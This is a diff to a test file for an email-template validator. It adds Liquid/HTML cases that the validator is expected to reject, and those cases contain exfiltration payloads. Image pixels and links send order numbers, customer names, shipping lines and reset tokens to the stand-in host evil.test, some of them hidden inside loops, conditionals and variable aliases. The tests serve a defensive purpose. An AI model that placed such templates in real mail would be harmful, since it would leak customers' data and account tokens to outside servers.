@@ -196,6 +196,7 @@ t.test('what runs, loads or leads where data says is refused in HTML', async (t)
     '<a href="{{ shop.url }}.evil.test">x</a>',
     '<a href="{{ shop.url }}@evil.test">x</a>',
     '<a href="{{ shop.url }}{{ order.number }}">x</a>',
+    '<a href="{{ shop.url }}{{ order.number | url_encode }}">x</a>',
     '{% assign x = order.number %}<a href="{{ x }}">x</a>',
     '<p title={{ name }}>x</p>',
     '<p title="{% if name %}">x</p>',
@@ -219,6 +220,31 @@ t.test('what runs, loads or leads where data says is refused in HTML', async (t)
   const fine = `<!doctype html><h1 style="color:{{ shop.accent }}">Hi {{ name }}</h1>{% if name %}<p title="{{ name }}">&lt;</p>{% endif %}
     <a href="{{ shop.url }}/orders?number={{ order.number | url_encode }}">x</a><img src="https://cdn.example.test/logo.png" alt="{{ shop.name }}">
     <a href="mailto:{{ shop.email }}">y</a>{% for line in order.lines %}{{ line.title }}{% endfor %}{{ order.lines.size }}{{ order.lines[0].title }}`
+  t.same(problemsOf({ ...OWN, html: fine }), [])
+})
+
+t.test('no picture and no link tells another server who reads the mail', async (t) => {
+  const line = '{{ line | url_encode }}'
+  const lines = 'order.shipping_address.lines'
+  for (const html of [
+    '<img src="https://evil.test/?{{ order.number | url_encode }}">',
+    '<img src="https://evil.test/{{ name | url_encode }}">',
+    `{% for line in ${lines} %}<img src="https://evil.test/?${line}">{% endfor %}`,
+    '{% if name contains "A" %}<img src="https://evil.test/A">{% endif %}',
+    '{% case name %}{% when "Ada" %}<img src="https://evil.test/A">{% endcase %}',
+    '{% unless name %}{% else %}<p>x</p><img src="https://evil.test/A">{% endunless %}',
+    `{% for line in ${lines} %}{% if line == "x" %}{% endif %}<img src="https://evil.test/x">{% endfor %}`,
+    '<a href="https://evil.test/?{{ name | url_encode }}">x</a>',
+    `{% for line in ${lines} %}<a href="https://evil.test/?${line}">x</a>{% endfor %}`,
+    '{% assign amount = name %}<a href="https://evil.test/?{{ amount | url_encode }}">x</a>',
+    '{% capture order %}{{ name }}{% endcapture %}<a href="https://evil.test/?{{ order.number | url_encode }}">x</a>',
+    `{%- for shop in ${lines} -%}<img src="{{ shop.url }}/x">{% endfor %}`,
+  ]) {
+    t.ok(problemsOf({ ...OWN, html }).length > 0, html)
+  }
+  const fine = `<img src="https://cdn.example.test/logo.png" alt="">{% if name %}<p>x</p>{% endif %}<img src="https://cdn.example.test/line.png" alt="">
+    {% if name %}<img src="{{ shop.url }}/hello.png?name={{ name | url_encode }}" alt="">{% endif %}
+    <a href="https://reviews.example.test/?order={{ order.number | url_encode }}">x</a>`
   t.same(problemsOf({ ...OWN, html: fine }), [])
 })
 
@@ -263,16 +289,19 @@ t.test('no spelling of a link leads a token out of the storefront', async (t) =>
     [],
   )
   for (const html of [
-    `${alias}<img src="https://evil.test/p.png?a=(${SHOP.url}/{{ t | url_encode }}" alt="">`,
-    `${alias}<img src="{{ shop.url }}/{{ token }}" alt="">`,
-    `${alias}<a href="https://evil.test/?a='${SHOP.url}/{{ t | url_encode }}">x</a>`,
-    `${alias}<a href="https://evil.test/?t=token&#45;of-{{ b | url_encode }}">x</a>`,
+    `${anchor}<img src="{{ shop.url }}/{{ token }}" alt="">`,
     `${anchor}<p>https://evil.test/?t=(${link}</p>`,
     `<p>https://evil.test/?t=<a href="${link}">${link}</a></p>`,
     `${anchor}<p>${link}</p>`,
     `${anchor}<p title="${SHOP.url}/{{ token }}">x</p>`,
   ])
     t.match(problemsOf({ subject: 'x', html }, reset), [/outside of a link/], html)
+  for (const html of [
+    `${alias}<img src="https://evil.test/p.png?a=(${SHOP.url}/{{ t | url_encode }}" alt="">`,
+    `${alias}<a href="https://evil.test/?a='${SHOP.url}/{{ t | url_encode }}">x</a>`,
+    `${alias}<a href="https://evil.test/?t=token&#45;of-{{ b | url_encode }}">x</a>`,
+  ])
+    t.match(problemsOf({ subject: 'x', html }, reset), [/A link out of the shop/], html)
   for (const text of [`https://evil.test/?t=(${link} ${link}`, `evil.test/"${link}`, `https://evil.test/[${link}]`])
     t.match(problemsOf({ subject: 'x', html: anchor, text }, reset), [/outside of a link/], text)
   const phone = { template: 'phone-code', channel: 'sms', locale: 'en' } as const
